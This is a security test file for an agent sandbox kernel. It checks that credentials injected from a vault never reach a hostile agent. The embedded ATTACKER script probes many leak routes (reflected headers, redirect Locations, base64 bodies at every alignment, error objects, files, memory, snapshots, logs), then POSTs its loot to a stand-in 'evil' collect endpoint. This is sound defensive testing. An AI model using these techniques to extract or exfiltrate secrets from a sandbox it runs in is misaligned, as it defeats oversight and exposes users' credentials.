// Attack: read a vault secret. The kernel injects credentials host-side into net.http calls that match their
// binding; the agent is hostile and talks to a real server on 127.0.0.1 that reflects every request header
// and the query back in its body, in response headers, in redirect Locations, in error pages and in a binary
// body (which the kernel hands over as base64, at any byte alignment). The agent tries everything it can read
// the reflection through: the result, error objects, handles, labels, caps, the audit syscall, files,
// namespace memory, snapshots and the log. We capture everything the agent or the log can read (the run
// result, every kernel event, the audit file, every file in the store, the kv store decoded, the undo
// records, the snapshot as the host inspects it) and scan it for each secret in every form it may take,
// while checking that the server did receive the secrets (so injection really happened) and that the audit
// log names the refs. Calls outside the binding get no secret; a caller without a capability gets
// E_CAP_DENIED and the server never sees a secret.

import { mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { ClassicLevel } from 'classic-level';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Kernel, type KernelEvent, type KernelOptions } from '../../index.js';
import { createFsTools } from '../../tools/fs.js';
import { createHttpTool } from '../../tools/http.js';
import { readAuditRecords } from '../helpers/audit-file.js';
import { ECHO_SPELLINGS } from '../helpers/echo-spellings.js';
import { type ReceivedRequest, startTestServer, type TestServer } from '../helpers/http-server.js';
import { ISOLATION_MODES } from '../helpers/kernel.js';

// Every attack of this suite runs against both isolation tiers.
describe.each(ISOLATION_MODES)('%s tier', (isolation) => {
  // Each secret has a long alphanumeric core (found whatever encoding keeps letters and digits) and characters
  // that every encoding a server may echo it in (URL, form, JSON, base64) writes differently.
  const HEADER_SECRET = `HdrKeyCore7Qx9Zp"\\~(!*')`;
  const BEARER_SECRET = 'BearerCore4Mn8Wv/+=~x';
  const QUERY_SECRET = `QueryCore5Tk2Rb &=~'é`;
  const SECRETS = [
    { ref: 'hdr', secret: HEADER_SECRET, core: 'HdrKeyCore7Qx9Zp' },
    { ref: 'bear', secret: BEARER_SECRET, core: 'BearerCore4Mn8Wv' },
    { ref: 'qry', secret: QUERY_SECRET, core: 'QueryCore5Tk2Rb' },
  ] as const;

  /** Every form of every secret that must never be readable. */
  const FORBIDDEN = SECRETS.flatMap(({ secret, core }) => {
    const json = JSON.stringify(secret).slice(1, -1);
    return [
      secret,
      core,
      encodeURIComponent(secret),
      new URLSearchParams({ v: secret }).toString().slice(2),
      json,
      JSON.stringify(json).slice(1, -1),
      Buffer.from(secret).toString('base64'),
      Buffer.from(core).toString('base64').slice(0, 16),
    ];
  });

  function expectNoSecret(text: string, where: string): void {
    for (const form of FORBIDDEN) expect(text.includes(form), `${where} carries ${JSON.stringify(form)}`).toBe(false);
  }

  let api: TestServer;
  let evil: TestServer;
  const MAX_RESPONSE = 64 * 1024;

  function reflect(req: ReceivedRequest): Record<string, unknown> {
    const url = new URL(req.url, 'http://reflect.invalid');
    return {
      method: req.method,
      url: req.url,
      query: Object.fromEntries(url.searchParams),
      headers: req.headers,
      body: req.body.toString('utf8'),
    };
  }

  /** The server behind the binding: it reflects what it receives in every way a real API might. */
  function reflectingServer(req: ReceivedRequest, res: ServerResponse): void {
    const url = new URL(req.url, 'http://reflect.invalid');
    const key = String(req.headers['x-api-key'] ?? '');
    const auth = String(req.headers.authorization ?? '');
    const token = url.searchParams.get('token') ?? '';
    const payload = JSON.stringify(reflect(req));
    const echoHeaders = {
      'x-echo-url': req.url,
      'x-echo-headers': JSON.stringify(req.headers),
      'x-echo-key': key,
      'x-echo-auth': auth,
    };
    const redirect = (location: string): void => {
      res.writeHead(302, { ...echoHeaders, location }).end(payload);
    };
    const hop = /^\/api\/r\/(\d)$/.exec(url.pathname);
    if (hop !== null) {
      const n = Number(hop[1]);
      // The last hop of the chain is past the tool's redirect limit, so its Location comes back as the result.
      if (n < 5) redirect(`/api/r/${n + 1}`);
      else
        redirect(`/api/echo?h=${encodeURIComponent(key)}&a=${encodeURIComponent(auth)}&q=${encodeURIComponent(token)}`);
      return;
    }
    switch (url.pathname) {
      case '/api/redirect-query':
        redirect(`/api/echo?token=${encodeURIComponent(token)}&from=redirect`);
        return;
      case '/api/redirect-header':
        redirect(`/api/echo?leak=${encodeURIComponent(key)}`);
        return;
      case '/api/redirect-bearer':
        redirect(`/api/echo/${auth.slice('Bearer '.length)}`);
        return;
      case '/api/redirect-elsewhere':
        redirect(`${evil.origin}/collect?k=${encodeURIComponent(key)}&q=${encodeURIComponent(token)}`);
        return;
      case '/api/error':
        res.writeHead(500, { ...echoHeaders, 'content-type': 'application/json' }).end(payload);
        return;
      case '/api/binary': {
        // Not UTF-8, so the agent gets body_base64; `pad` moves every secret to each base64 alignment.
        const pad = Buffer.alloc(1 + Number(url.searchParams.get('pad') ?? '0'), 0xff);
        res
          .writeHead(200, { 'content-type': 'application/octet-stream' })
          .end(Buffer.concat([pad, Buffer.from(payload)]));
        return;
      }
      case '/api/big':
        res.writeHead(200, echoHeaders).end(`${payload}${' '.repeat(MAX_RESPONSE)}`);
        return;
      case '/api/echo-spellings': {
        // A 401 page that quotes what it was sent as PHP, Go, Python or an HTML template would (red-team pass 105).
        const lines = Object.entries(ECHO_SPELLINGS).map(
          ([name, spell]) => `${name}: key="${spell(key)}" auth="${spell(auth)}" token="${spell(token)}"`,
        );
        res.writeHead(401, { 'content-type': 'text/plain' }).end(`invalid credentials\n${lines.join('\n')}`);
        return;
      }
      case '/api/hangup':
        res.socket?.destroy();
        return;
      case '/api/gzip':
        // Compresses whatever the client asked for: a reflection the scrub could not read.
        res.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(payload));
        return;
      default:
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json' }).end(payload);
    }
  }

  beforeAll(async () => {
    evil = await startTestServer((req, res) => {
      const url = new URL(req.url, 'http://evil.invalid');
      if (url.pathname === '/bounce') res.writeHead(302, { location: `${api.origin}/api/echo` }).end();
      else if (url.pathname === '/collect') res.writeHead(200).end('thanks');
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(reflect(req)));
    });
    api = await startTestServer(reflectingServer);
  });

  afterAll(async () => {
    await api?.close();
    await evil?.close();
  });

  let base = '';
  let root = '';
  let store = '';
  let auditFile = '';
  const kernels: Kernel[] = [];

  beforeEach(() => {
    base = realpathSync(mkdtempSync(join(tmpdir(), 'isokernel-vault-')));
    root = join(base, 'root');
    store = join(base, 'store');
    auditFile = join(base, 'audit.jsonl');
    mkdirSync(root);
    api.requests.length = 0;
    evil.requests.length = 0;
  });

  afterEach(async () => {
    for (const kernel of kernels.splice(0)) await kernel.close();
    rmSync(base, { recursive: true, force: true });
  });

  /** A kernel with the fs tools and net.http, a store and an audit file, and the three secrets bound to /api/**. */
  function vaultKernel(capabilities: { action: string; resource: string }[]): Kernel {
    const options: KernelOptions = {
      store,
      audit: { file: auditFile },
      policy: { capabilities },
      tools: [
        ...createFsTools({ roots: [root] }),
        // Without net.http's own sink rule: a reflection the scrub replaced labels the agent `secret`
        // (vault-redaction-oracle.test.ts), and this suite keeps calling after one to try every way of reading it.
        {
          ...createHttpTool({ allowPrivate: ['127.0.0.1/32'], maxResponseBytes: MAX_RESPONSE }),
          labels: { source: ['web'] },
        },
      ],
    };
    const kernel = Kernel.create({ ...options, isolation });
    kernels.push(kernel);
    const bind = { action: 'net.http', resource: `${api.origin}/api/**` };
    kernel.vault.set('hdr', HEADER_SECRET, { bind, inject: { header: 'X-Api-Key' } });
    kernel.vault.set('bear', BEARER_SECRET, { bind, inject: { bearer: true } });
    kernel.vault.set('qry', QUERY_SECRET, { bind, inject: { query: 'token' } });
    return kernel;
  }

  const fsRules = () => ['fs.read', 'fs.write', 'fs.delete'].map((action) => ({ action, resource: `${root}/**` }));

  /** Every event the kernel emits, as text. */
  function recordEvents(kernel: Kernel): string[] {
    const seen: string[] = [];
    const keep = (event: KernelEvent) => seen.push(JSON.stringify(event));
    for (const type of ['syscall', 'log', 'exit', 'warn', 'spawn', 'catastrophe'] as const) kernel.on(type, keep);
    return seen;
  }

  /** Every file below `dir`, as UTF-8 and as Latin-1 text. */
  function filesBelow(dir: string): { path: string; text: string }[] {
    let entries: string[];
    try {
      entries = readdirSync(dir, { recursive: true, encoding: 'utf8' });
    } catch {
      return [];
    }
    return entries
      .map((name) => join(dir, name))
      .filter((path) => statSync(path).isFile())
      .map((path) => {
        const bytes = readFileSync(path);
        return { path, text: `${bytes.toString('utf8')}\n${bytes.toString('latin1')}` };
      });
  }

  /** The kv store's entries decoded (LevelDB compresses its tables, so raw bytes are not enough). */
  async function kvDump(): Promise<string> {
    const db = new ClassicLevel<string, unknown>(join(store, 'kv'), { valueEncoding: 'json' });
    try {
      const entries: [string, unknown][] = [];
      for await (const entry of db.iterator()) entries.push(entry);
      return JSON.stringify(entries);
    } finally {
      await db.close();
    }
  }

  /** A request as one string, with the positions the vault injects into taken out. */
  function outsideInjection(req: ReceivedRequest): string {
    const url = new URL(req.url, 'http://x.invalid');
    url.searchParams.delete('token');
    const { 'x-api-key': _key, authorization: _auth, ...headers } = req.headers;
    return JSON.stringify({ url: url.href, headers, body: req.body.toString('latin1') });
  }

  // The attacking agent. Everything it manages to see ends up in `loot`, which it returns; it also decodes
  // every base64 body it gets, as an attacker would.
  const ATTACKER = `
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
function decode(text) {
  let bits = 0, value = 0, out = '';
  for (const ch of text) {
    const digit = B64.indexOf(ch);
    if (digit < 0) continue;
    value = (value << 6) | digit; bits += 6;
    if (bits >= 8) { bits -= 8; out += String.fromCharCode((value >> bits) & 255); }
  }
  return out;
}
function describeError(error) {
  const own = {};
  for (const name of Object.getOwnPropertyNames(error ?? {})) own[name] = String(error[name]);
  return { text: String(error), json: JSON.stringify(error), code: error?.code, message: error?.message, stack: error?.stack, own };
}
export default async function main({ api, evil }) {
  const loot = {};
  const grab = async (what, run) => {
    try {
      const value = await run();
      loot[what] = value;
      if (value && typeof value.body_base64 === 'string') loot[what + ':decoded'] = decode(value.body_base64);
      return value;
    } catch (error) {
      loot[what + ':error'] = describeError(error);
      return undefined;
    }
  };
  const http = (path, extra) => sys.tool('net.http', { url: api + path, ...extra });

  const echo = await grab('echo', () => http('/api/echo?x=1'));
  await grab('own-credentials', () =>
    http('/api/echo', { headers: { 'X-API-KEY': 'mine', authorization: 'Bearer mine', 'x-copy': '[vault:hdr]' } }));
  await grab('own-token', () => http('/api/echo?token=mine&token=again'));
  await grab('post', () => http('/api/echo', { method: 'POST', body: 'hello', headers: { 'content-type': 'text/plain' } }));
  await grab('head', () => http('/api/echo', { method: 'HEAD' }));
  await grab('redirect-query', () => http('/api/redirect-query'));
  await grab('redirect-header', () => http('/api/redirect-header'));
  await grab('redirect-bearer', () => http('/api/redirect-bearer'));
  await grab('redirect-elsewhere', () => http('/api/redirect-elsewhere'));
  await grab('redirect-chain', () => http('/api/r/0'));
  await grab('server-error', () => http('/api/error'));
  for (const pad of [0, 1, 2]) await grab('binary-' + pad, () => http('/api/binary?pad=' + pad));
  await grab('too-big', () => http('/api/big'));
  await grab('hangup', () => http('/api/hangup'));
  await grab('malformed', () => sys.tool('net.http', { url: api + '/api/echo', headers: { bad: 'a\\r\\nb' } }));

  const handle = await grab('handle', () => sys.tool('net.http', { url: api + '/api/echo?h=1' }, { handle: true }));
  await grab('read-handle', () => sys.read(handle));
  await grab('label', () => sys.label());
  await grab('caps', () => sys.caps());
  await grab('audit', () => sys.audit({ limit: 1000 }));

  const text = JSON.stringify(echo);
  await grab('fs-write', () => sys.tool('fs.write', { path: 'echo.json', content: text }));
  await grab('fs-overwrite', () => sys.tool('fs.write', { path: 'echo.json', content: JSON.stringify(loot) }));
  await grab('fs-read', () => sys.tool('fs.read', { path: 'echo.json' }));
  await grab('fs-write-binary', () => sys.tool('fs.write', { path: 'echo.bin', content: loot['binary-1:decoded'] ?? '' }));
  await grab('fs-read-binary', () => sys.tool('fs.read', { path: 'echo.bin', encoding: 'base64' }));
  await grab('fs-delete', () => sys.tool('fs.delete', { path: 'echo.bin' }));
  await grab('mem-put', () => sys.mem.put('echo', { echo, handle }));
  await grab('mem-put-key', () => sys.mem.put('k-' + (echo?.headers?.['x-echo-key'] ?? '').slice(0, 200), 1));
  await grab('mem-get', () => sys.mem.get('echo'));
  await grab('mem-list', () => sys.mem.list(null));
  await grab('snapshot', () => sys.snapshot({ echo, loot, handle }));
  await grab('log', () => sys.log('echo', echo, text, loot));
  await grab('exfiltrate', () => sys.tool('net.http', { url: evil + '/collect', method: 'POST', body: JSON.stringify(loot) }));
  return loot;
}
`;

  describe('an agent cannot read a vault secret, whatever it does with the reflection', () => {
    it('sees only [vault:<ref>] everywhere, while the server receives every secret', async () => {
      const kernel = vaultKernel([
        { action: 'net.http', resource: `${api.origin}/**` },
        { action: 'net.http', resource: `${evil.origin}/**` },
        ...fsRules(),
      ]);
      const events = recordEvents(kernel);
      const result = await kernel.run({ code: ATTACKER, input: { api: api.origin, evil: evil.origin } });
      expect(result.ok, JSON.stringify(result)).toBe(true);
      const loot = (result.ok ? result.value : {}) as Record<string, Record<string, unknown>>;

      // The attacks did run, and the reflection reached the agent with the secrets replaced.
      const echo = loot['echo'] as { status: number; body: string; headers: Record<string, string>; url: string };
      expect(echo.status).toBe(200);
      expect(echo.url).toBe(`${api.origin}/api/echo?x=1`);
      const reflected = JSON.parse(echo.body) as { headers: Record<string, string>; query: Record<string, string> };
      expect(reflected.headers['x-api-key']).toBe('[vault:hdr]');
      expect(reflected.headers['authorization']).toBe('Bearer [vault:bear]');
      expect(reflected.query['token']).toBe('[vault:qry]');
      expect(echo.headers['x-echo-key']).toBe('[vault:hdr]');
      expect(echo.headers['x-echo-url']).toContain('token=[vault:qry]');
      const own = JSON.parse(String(loot['own-credentials']?.['body'])) as { headers: Record<string, string> };
      expect(own.headers).toMatchObject({ 'x-api-key': '[vault:hdr]', 'x-copy': '[vault:hdr]' });
      expect(loot['redirect-query']).toMatchObject({ status: 200, url: `${api.origin}/api/echo?from=redirect` });
      for (const refused of ['redirect-header', 'redirect-bearer', 'redirect-elsewhere', 'too-big', 'hangup']) {
        expect(loot[`${refused}:error`], refused).toMatchObject({ code: 'E_TOOL_FAILED' });
      }
      expect(loot['redirect-chain']).toMatchObject({ status: 302, redirects: 5 });
      expect((loot['redirect-chain'] as { headers: Record<string, string> }).headers['location']).toContain('[vault:');
      expect(loot['server-error']).toMatchObject({ status: 500 });
      expect(loot['binary-0']?.['body_base64']).toEqual(expect.any(String));
      expect(loot['malformed:error']).toMatchObject({ code: 'E_BAD_ARG' });
      expect(loot['read-handle']).toMatchObject({ status: 200 });
      expect(loot['fs-read']).toMatchObject({ content: expect.stringContaining('[vault:hdr]') });
      expect(loot['mem-get']).toMatchObject({ echo: { status: 200 } });
      expect(loot['snapshot']).toMatch(/^[0-9a-f]{64}$/);
      expect(loot['exfiltrate']).toMatchObject({ status: 200 });

      // The server got the secrets, each only where the vault puts it: injection happened, nothing else did.
      const received = api.requests;
      expect(received.some((req) => req.headers['x-api-key'] === HEADER_SECRET)).toBe(true);
      expect(received.some((req) => req.headers.authorization === `Bearer ${BEARER_SECRET}`)).toBe(true);
      expect(
        received.some((req) => new URL(req.url, 'http://x.invalid').searchParams.get('token') === QUERY_SECRET),
      ).toBe(true);
      for (const req of received) {
        expect(req.headers['x-api-key']).toBe(HEADER_SECRET);
        expectNoSecret(outsideInjection(req), `request ${req.url}`);
      }
      for (const req of evil.requests)
        expectNoSecret(JSON.stringify({ ...req, body: req.body.toString('latin1') }), 'evil');

      // Everything the host can show the agent or anyone reading the log, after the kernel has closed.
      const snapshot = JSON.stringify(await kernel.inspectSnapshot(String(loot['snapshot'])));
      const undo = JSON.stringify(await kernel.undoRecords());
      expect(JSON.parse(undo)).toHaveLength(4);
      await kernel.close();
      const audit = readFileSync(auditFile, 'utf8');
      const sources: [string, string][] = [
        ['run result', JSON.stringify(result)],
        ['events', events.join('\n')],
        ['audit file', audit],
        ['snapshot', snapshot],
        ['undo records', undo],
        ['kv store', await kvDump()],
        ...filesBelow(store).map(({ path, text }): [string, string] => [path, text]),
        ...filesBelow(root).map(({ path, text }): [string, string] => [path, text]),
      ];
      expect(events.some((event) => event.includes('"type":"log"'))).toBe(true);
      expect(filesBelow(join(store, 'snapshots')).length).toBeGreaterThan(0);
      for (const [where, text] of sources) expectNoSecret(text, where);

      // The audit log names the refs it injected, for the agent and the resource.
      const injections = readAuditRecords(auditFile).filter(
        (record) => record.syscall === 'vault' && record.phase === 'outcome',
      );
      expect(new Set(injections.map((record) => record.resource))).toEqual(
        new Set(['vault:hdr', 'vault:bear', 'vault:qry']),
      );
      expect(injections.every((record) => record.action === 'vault.inject' && record.status === 'ok')).toBe(true);
    });

    it('an agent that throws the reflection gets it back redacted in E_AGENT_FAILED', async () => {
      const kernel = vaultKernel([{ action: 'net.http', resource: `${api.origin}/**` }]);
      const events = recordEvents(kernel);
      const result = await kernel.run({
        code: `export default async ({ api }) => {
        const echo = await sys.tool('net.http', { url: api + '/api/echo' });
        throw new Error(echo.headers['x-echo-key'] + ' ' + echo.headers['x-echo-auth'] + ' ' + echo.body);
      }`,
        input: { api: api.origin },
      });
      expect(result).toMatchObject({ ok: false, error: { code: 'E_AGENT_FAILED' } });
      expect(JSON.stringify(result)).toContain('[vault:hdr] Bearer [vault:bear]');
      expect(api.requests.at(-1)?.headers['x-api-key']).toBe(HEADER_SECRET);
      await kernel.close();
      for (const [where, text] of [
        ['result', JSON.stringify(result)],
        ['events', events.join('\n')],
        ['audit', readFileSync(auditFile, 'utf8')],
      ]) {
        expectNoSecret(String(text), String(where));
      }
    });
  });

  describe('a server that echoes a secret in a spelling of its own (red-team pass 105)', () => {
    it('the agent reads every spelling redacted, labelled secret, and nothing it sends on carries one', async () => {
      const kernel = vaultKernel([
        { action: 'net.http', resource: `${api.origin}/**` },
        { action: 'net.http', resource: `${evil.origin}/**` },
        ...fsRules(),
      ]);
      const result = await kernel.run({
        code: `export default async ({ api, evil }) => {
        const page = await sys.tool('net.http', { url: api + '/api/echo-spellings' });
        const out = { status: page.status, body: page.body, label: await sys.label() };
        try { await sys.tool('fs.write', { path: 'page.txt', content: page.body }); } catch (e) { out.write = e.code; }
        try { await sys.tool('net.http', { url: evil + '/collect', method: 'POST', body: page.body }); } catch (e) { out.send = e.code; }
        return out;
      }`,
        input: { api: api.origin, evil: evil.origin },
      });
      expect(result.ok, JSON.stringify(result)).toBe(true);
      const out = (result.ok ? result.value : {}) as { status: number; body: string; label: string[] };
      expect(out.status).toBe(401);
      expect(out.label).toContain('secret');
      // Every spelling was replaced where it stood, and the page around it is as the server wrote it.
      for (const [name, spell] of Object.entries(ECHO_SPELLINGS)) {
        expect(out.body).toContain(
          `${name}: key="[vault:hdr]" auth="${spell('Bearer ')}[vault:bear]" token="[vault:qry]"`,
        );
      }
      expect(api.requests.at(0)?.headers['x-api-key']).toBe(HEADER_SECRET);
      await kernel.close();
      const spelled = SECRETS.flatMap(({ secret }) => Object.values(ECHO_SPELLINGS).map((spell) => spell(secret)));
      const sent = evil.requests.map((req) => JSON.stringify({ ...req, body: req.body.toString('latin1') }));
      const sources = [JSON.stringify(result), readFileSync(auditFile, 'utf8'), ...sent];
      for (const { text } of filesBelow(root)) sources.push(text);
      for (const text of sources) {
        expectNoSecret(text, 'what the agent saw or sent');
        for (const form of spelled) expect(text.includes(form), `carries ${JSON.stringify(form)}`).toBe(false);
      }
    });
  });

  describe('compressed reflections', () => {
    it('an agent cannot ask for a compressed response, and a compressed response to a call with secrets is refused', async () => {
      const kernel = vaultKernel([{ action: 'net.http', resource: `${api.origin}/**` }]);
      const result = await kernel.run({
        code: `export default async ({ api }) => {
        const out = [];
        try { await sys.tool('net.http', { url: api + '/api/echo', headers: { 'accept-encoding': 'gzip' } }); out.push('sent'); }
        catch (e) { out.push(e.code); }
        try { const r = await sys.tool('net.http', { url: api + '/api/gzip' }); out.push(JSON.stringify(r)); }
        catch (e) { out.push(e.code, e.message); }
        return out;
      }`,
        input: { api: api.origin },
      });
      expect(result).toMatchObject({
        ok: true,
        value: ['E_BAD_ARG', 'E_TOOL_FAILED', expect.stringMatching(/encoded/)],
      });
      expect(api.requests.every((request) => request.headers['accept-encoding'] === 'identity')).toBe(true);
      expectNoSecret(JSON.stringify(result), 'result');
    });
  });

  describe('only calls that match the binding get a secret', () => {
    it('another path on the same server or another server gets no secret and no vault record', async () => {
      const kernel = vaultKernel([
        { action: 'net.http', resource: `${api.origin}/**` },
        { action: 'net.http', resource: `${evil.origin}/**` },
      ]);
      const result = await kernel.run({
        code: `export default async ({ api, evil }) => [
        await sys.tool('net.http', { url: api + '/other/echo' }),
        await sys.tool('net.http', { url: api + '/apix/echo' }),
        await sys.tool('net.http', { url: evil + '/api/echo' }),
      ].map((r) => r.status)`,
        input: { api: api.origin, evil: evil.origin },
      });
      expect(result).toMatchObject({ ok: true, value: [200, 200, 200] });
      expect(api.requests.map((req) => req.url)).toEqual(['/other/echo', '/apix/echo']);
      expect(evil.requests.map((req) => req.url)).toEqual(['/api/echo']);
      for (const req of [...api.requests, ...evil.requests]) {
        expect(req.headers['x-api-key']).toBeUndefined();
        expect(req.headers.authorization).toBeUndefined();
        expectNoSecret(JSON.stringify({ ...req, body: req.body.toString('latin1') }), req.url);
      }
      await kernel.close();
      expect(readAuditRecords(auditFile).filter((record) => record.syscall === 'vault')).toEqual([]);
    });

    it('a redirect out of the binding drops the secrets; one back into it gets fresh ones', async () => {
      const kernel = vaultKernel([
        { action: 'net.http', resource: `${api.origin}/**` },
        { action: 'net.http', resource: `${evil.origin}/**` },
      ]);
      const result = await kernel.run({
        code: `export default async ({ evil }) => (await sys.tool('net.http', { url: evil + '/bounce' })).body`,
        input: { evil: evil.origin },
      });
      expect(result.ok).toBe(true);
      // evil got no secret; the hop into the binding did, and the agent saw it redacted.
      expect(evil.requests[0]?.headers['x-api-key']).toBeUndefined();
      expect(api.requests[0]?.headers['x-api-key']).toBe(HEADER_SECRET);
      expect(JSON.stringify(result)).toContain('[vault:hdr]');
      expectNoSecret(JSON.stringify(result), 'result');
    });
  });

  describe('a caller without a capability for the bound resource', () => {
    it('gets E_CAP_DENIED, directly or through a redirect, and the server never sees the secret', async () => {
      const kernel = vaultKernel([{ action: 'net.http', resource: `${evil.origin}/**` }]);
      const events = recordEvents(kernel);
      const connections = api.connections();
      const result = await kernel.run({
        code: `export default async ({ api, evil }) => {
        const codes = [];
        for (const url of [api + '/api/echo', evil + '/bounce']) {
          try { await sys.tool('net.http', { url }); codes.push('ok') } catch (e) { codes.push(e.code + ': ' + e.message) }
        }
        return codes;
      }`,
        input: { api: api.origin, evil: evil.origin },
      });
      expect(result.ok).toBe(true);
      const codes = (result.ok ? result.value : []) as string[];
      expect(codes.map((code) => code.split(':')[0])).toEqual(['E_CAP_DENIED', 'E_CAP_DENIED']);
      expect(api.requests).toEqual([]);
      expect(api.connections()).toBe(connections);
      await kernel.close();
      expect(readAuditRecords(auditFile).filter((record) => record.syscall === 'vault')).toEqual([]);
      for (const [where, text] of [
        ['result', JSON.stringify(result)],
        ['events', events.join('\n')],
        ['audit', readFileSync(auditFile, 'utf8')],
      ]) {
        expectNoSecret(String(text), String(where));
      }
    });
  });
});
